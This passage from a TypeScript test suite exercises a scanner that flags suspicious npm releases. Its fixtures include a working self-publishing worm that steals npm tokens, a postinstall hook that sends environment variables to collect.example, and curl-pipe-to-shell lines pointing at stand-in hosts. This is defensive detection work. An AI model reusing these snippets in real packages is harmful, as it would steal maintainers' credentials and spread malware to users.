      const previous = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 });
      const worm = `const fs=require('fs'),cp=require('child_process');const token=process.env.NPM_TOKEN||fs.readFileSync(require('os').homedir()+'/.npmrc','utf8').match(/_authToken=(.*)/)[1];
for (const name of JSON.parse(cp.execSync('npm search --json maintainer:me'))) { cp.execSync('npm pack '+name.name); const p=JSON.parse(fs.readFileSync('package/package.json'));p.scripts.postinstall='node bundle.js';fs.writeFileSync('package/package.json',JSON.stringify(p));cp.execSync('npm publish',{cwd:'package'}); }`;
      const current = pkg('1.0.1', { 'package.json': { main: 'index.js', scripts: { postinstall: 'node bundle.js' } }, 'index.js': LIB_V1, 'bundle.js': worm });
      const fs = run({ current, previous, registry: { version: '1.0.1' } });
      assert.equal(fs[0].code, 'content-self-publish');
      assert.equal(fs[0].severity, 'critical');
      assert.equal(severityOf(fs, 'manifest-mismatch'), 'high');
      assert.equal(severityOf(fs, 'content-install-hook'), 'high');
      assert.equal(severityOf(fs, 'content-credentials'), 'high');
    });
  });

  describe('scope and limits', () => {
    it('tests, examples and docs are not judged unless an install hook runs them', () => {
      const a = pkg('1.0.0', { 'index.js': LIB_V1 });
      const b = pkg('1.0.1', {
        'index.js': LIB_V1,
        'test/helper.js': 'require("child_process"); process.env.GITHUB_TOKEN; fetch("https://x.example")\n',
        'README.md': 'curl https://evil.example | sh',
      });
      assert.deepEqual(run({ current: b, previous: a }), []);
    });

    it('…but code the package requires from such a folder is judged', () => {
      const a = pkg('1.0.0', { 'index.js': LIB_V1 });
      const b = pkg('1.0.1', {
        'index.js': LIB_V1 + 'require("./test/fixtures/helper");\n',
        'test/fixtures/helper.js': 'require("child_process").exec("id")\n',
      });
      const f = find(run({ current: b, previous: a }), 'content-process')!;
      assert.match(evidenceText(f), /test\/fixtures\/helper\.js:1/);
    });

    it('files identical to the previous release (also when moved) say nothing', () => {
      const code = 'require("child_process").exec("x"); fetch("https://a.example/b");\n';
      const a = pkg('1.0.0', { 'dist/chunk-a1b2.js': code, 'index.js': LIB_V1 });
      const b = pkg('1.0.1', { 'dist/chunk-c3d4.js': code, 'index.js': LIB_V1 });
      assert.deepEqual(run({ current: b, previous: a }), []);
    });

    it('signals the previous release could not be read for are not called new at high', () => {
      const a = pkg('1.0.0', { 'index.js': LIB_V1, 'dist/big.js': { size: 6_000_000, skipped: 'too-large' } });
      const b = pkg('1.0.1', {
        'index.js': LIB_V1,
        'dist/cli.js': 'const t = [process.env.NPM_TOKEN, process.env.GH_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];\n',
      });
      assert.equal(severityOf(run({ current: b, previous: pkg('1.0.0', { 'index.js': LIB_V1 }) }), 'content-credentials'), 'high');
      const f = find(run({ current: b, previous: a }), 'content-credentials')!;
      assert.equal(f.severity, 'medium');
      assert.match(f.message, /too large to read, e\.g\. dist\/big\.js: this may not be new/);
    });

    // Hang guards, not speed targets (those are in `npm run bench:detect`): a super-linear pattern on 5 MB runs for
    // hours, a linear scan for a fraction of a second; HANG_GUARD_MS sits far from both so machine load cannot flip it.
    it('patterns are linear: 5 MB adversarial lines each finish (hang guard)', function () {
      this.timeout(120_000);
      const five = 5 * 1024 * 1024;
      const cases: Record<string, string> = {
        'env members': 'process.env.'.repeat(five / 12),
        'require without close': 'require("'.repeat(five / 9),
        'almost base64': ('A'.repeat(199) + ' ').repeat(five / 200),
        'one base64 run': 'QUJD'.repeat(five / 4),
        'urls without end': 'https://'.repeat(five / 8),
        'dotted digits': '1.2.3.'.repeat(five / 6),
        'fromCharCode lists': ('String.fromCharCode(' + '65,'.repeat(300)).repeat(five / 920),
        'eval args': 'eval("'.repeat(five / 6),
        '_0x names': '_0xabcd+'.repeat(five / 8),
        'quotes and slashes': '"/*\'//`'.repeat(five / 7),
        'json stringify': 'JSON.stringify({'.repeat(five / 16) + 'process.env',
        whitespace: ' '.repeat(five),
        'persistence words': '.bashrc writeFile '.repeat(five / 18),
        'exfil names run together': 'transfer.sh'.repeat(five / 11),
      };
      for (const [name, text] of Object.entries(cases)) {
        const data = Buffer.from(text, 'latin1');
        finishesWithinHangGuard(name, () => scanFile('x.js', 'js', data, text));
      }
      for (const kind of ['js', 'shell', 'python'] as const) {
        // Every anchor the scanner looks for, back to back and with separators, to 5 MB.
        const unit = anchorsOf(kind)
          .map((a, i) => a + ['', ' ', '(', '"', '.'][i % 5])
          .join('');
        const text = unit.repeat(Math.ceil(five / unit.length));
        finishesWithinHangGuard(`all ${kind} anchors`, () => scanFile(`x.${kind}`, kind, Buffer.from(text, 'latin1'), text));
      }
      const shell = 'echo '.repeat(five / 5);
      finishesWithinHangGuard('shell echo', () => scanFile('x.sh', 'shell', Buffer.from(shell), shell));
    });

    it('a 20 MB package compared with its previous release is analysed without findings (hang guard)', function () {
      this.timeout(120_000);
      const out = buildSync({
        entryPoints: [require.resolve('yaml'), require.resolve('semver')],
        bundle: true,
        minify: true,
        write: false,
        platform: 'node',
        outdir: path.join(__dirname, 'unused'),
        logLevel: 'silent',
      });
      const chunk = out.outputFiles.map((o) => o.text).join('\n');
      const files: Record<string, string> = {};
      const filesPrev: Record<string, string> = {};
      let size = 0;
      for (let i = 0; size < 20 * 1024 * 1024; i++) {
        files[`dist/chunk-${i}.js`] = `/* build 2 */${chunk}`;
        filesPrev[`dist/chunk-${i}.js`] = `/* build 1 */${chunk}`;
        size += chunk.length;
      }
      const current = pkg('2.0.0', files);
      const previous = pkg('1.9.0', filesPrev);
      assert.deepEqual(
        finishesWithinHangGuard('the 20 MB comparison', () => run({ current, previous })),
        [],
      );
    });
  });

  describe('in steps (the engine runs them in time slices, answering requests in between)', () => {
    /** Steps to the end, counting the yields. */
    const stepped = <T>(steps: Steps<T>): { value: T; yields: number } => {
      for (let yields = 0; ; yields++) {
        const r = steps.next();
        if (r.done) return { value: r.value, yields };
      }
    };
    const hookCode = `const https = require('https');
https.get('https://collect.example/' + Buffer.from(JSON.stringify(process.env)).toString('base64'));
`;

    it('gives the findings analyzeContentChange gives', () => {
      const previous = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 });
      const current = pkg('1.0.1', {
        'package.json': { main: 'index.js', scripts: { postinstall: 'node setup.js' } },
        'index.js': LIB_V1 + "require('./lib/x');\n",
        'lib/x.js': obfuscated("require('child_process').exec('curl https://x.example | sh')"),
        'setup.js': hookCode,
      });
      const { value } = stepped(contentChangeSteps({ current, previous }));
      assert.ok(value.length >= 2, `a suspicious release: ${codes(value)}`);
      assert.deepEqual(value, run({ current, previous }));
    });

    it('yields once per file it scans; a file identical in both releases is scanned once', () => {
      const previous = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1, 'util.js': 'module.exports = 1;\n', 'README.md': '# lib' });
      const current = pkg('1.0.1', {
        'package.json': { main: 'index.js' },
        'index.js': LIB_V1 + '// 1.0.1\n',
        'util.js': 'module.exports = 1;\n',
        'more.js': 'module.exports = 2;\n',
        'README.md': '# lib 1.0.1',
      });
      // Current: index.js, util.js, more.js; previous: index.js (util.js is the current scan, reused).
      assert.equal(stepped(contentChangeSteps({ current, previous })).yields, 4);
      assert.equal(stepped(contentChangeSteps({ current })).yields, 3);
    });

    it('yields once per chunk of a file scanned in chunks', function () {
      this.timeout(120_000);
      const size = 3 * CHUNK_SCAN_BYTES;
      const big = 'function f(a) { return a + 1; }\n'.repeat(Math.ceil(size / 33)).slice(0, size);
      const current = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': big });
      const { yields } = stepped(contentChangeSteps({ current }));
      // Chunks of 1 MB overlapping by 16 KB: at least one step per MB, so no step holds the thread for the whole file.
      assert.ok(yields >= size / (1024 * 1024), `${yields} yields for ${size} bytes`);
    });
  });
});
